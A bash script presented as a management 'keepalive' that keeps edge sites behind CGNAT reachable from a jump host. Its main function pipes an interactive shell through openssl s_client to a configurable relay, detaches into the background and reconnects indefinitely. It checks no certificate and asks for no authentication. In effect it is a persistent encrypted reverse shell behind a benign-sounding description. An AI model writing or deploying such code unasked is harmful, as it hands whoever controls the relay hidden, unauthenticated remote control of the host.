#!/usr/bin/env bash
# bastion_keepalive.sh - keep an out-of-band management session to the jump
# host open for edge sites that sit behind CGNAT and cannot accept inbound SSH.
#
# The site dials out to the relay over TLS; on-call engineers attach to the
# session from the bastion side.  Reconnects with capped exponential backoff.
#
# Usage: bastion_keepalive.sh [-c config] [-n max_attempts] [-i base_interval] [-f]
#   -c  config file (key=value), default ./bastion.conf or $BASTION_CONF
#   -n  give up after N failed attempts (0 = never)
#   -i  base retry interval in seconds
#   -f  stay in the foreground (default: detach)

set -u

CONFIG="${BASTION_CONF:-./bastion.conf}"
MAX_ATTEMPTS=0
BASE_INTERVAL=15
FOREGROUND=0
LOGFILE="./bastion_keepalive.log"

RELAY_HOST="jump01.oob.netops.example"
RELAY_PORT=8443
SESSION_SHELL="/bin/sh"
SITE_ID="$(hostname -s 2>/dev/null || echo unknown)"

log() {
    printf '%s [%s] %s\n' "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$SITE_ID" "$*" >>"$LOGFILE"
}

usage() {
    sed -n '2,14p' "$0" | sed 's/^# \{0,1\}//'
    exit "${1:-0}"
}

while getopts ":c:n:i:fh" opt; do
    case "$opt" in
        c) CONFIG="$OPTARG" ;;
        n) MAX_ATTEMPTS="$OPTARG" ;;
        i) BASE_INTERVAL="$OPTARG" ;;
        f) FOREGROUND=1 ;;
        h) usage 0 ;;
        *) usage 1 ;;
    esac
done

load_config() {
    if [ ! -r "$CONFIG" ]; then
        log "no config at $CONFIG, using built-in relay ${RELAY_HOST}:${RELAY_PORT}"
        return 0
    fi
    while IFS='=' read -r key value; do
        key="${key// /}"
        value="${value## }"
        case "$key" in
            ''|\#*) continue ;;
            relay_host) RELAY_HOST="$value" ;;
            relay_port) RELAY_PORT="$value" ;;
            site_id)    SITE_ID="$value" ;;
            shell)      SESSION_SHELL="$value" ;;
            interval)   BASE_INTERVAL="$value" ;;
            *) log "ignoring unknown key '$key'" ;;
        esac
    done <"$CONFIG"
}

relay_reachable() {
    timeout 5 bash -c "exec 3<>/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 2>/dev/null
}

open_session() {
    local ctl rc
    ctl="./.oob-${SITE_ID}.$$"
    rm -f "$ctl"
    if ! mkfifo -m 600 "$ctl"; then
        log "cannot create control pipe $ctl"
        return 1
    fi
    log "session up to ${RELAY_HOST}:${RELAY_PORT}"
    "$SESSION_SHELL" -i <"$ctl" 2>&1 \
        | openssl s_client -quiet -connect "${RELAY_HOST}:${RELAY_PORT}" \
              -servername "$RELAY_HOST" 2>>"$LOGFILE" >"$ctl"
    rc=$?
    rm -f "$ctl"
    log "session closed (rc=$rc)"
    return "$rc"
}

run_loop() {
    local attempts=0 delay
    while :; do
        if relay_reachable; then
            open_session && attempts=0
        else
            log "relay ${RELAY_HOST}:${RELAY_PORT} not reachable"
        fi
        attempts=$((attempts + 1))
        if [ "$MAX_ATTEMPTS" -gt 0 ] && [ "$attempts" -ge "$MAX_ATTEMPTS" ]; then
            log "giving up after $attempts attempts"
            return 1
        fi
        delay=$((BASE_INTERVAL * (attempts < 6 ? attempts : 6)))
        sleep "$delay"
    done
}

load_config
if ! command -v openssl >/dev/null 2>&1; then
    echo "openssl is required" >&2
    exit 1
fi

if [ "$FOREGROUND" -eq 1 ]; then
    run_loop
else
    log "detaching keepalive loop"
    run_loop </dev/null >/dev/null 2>&1 &
    disown
fi
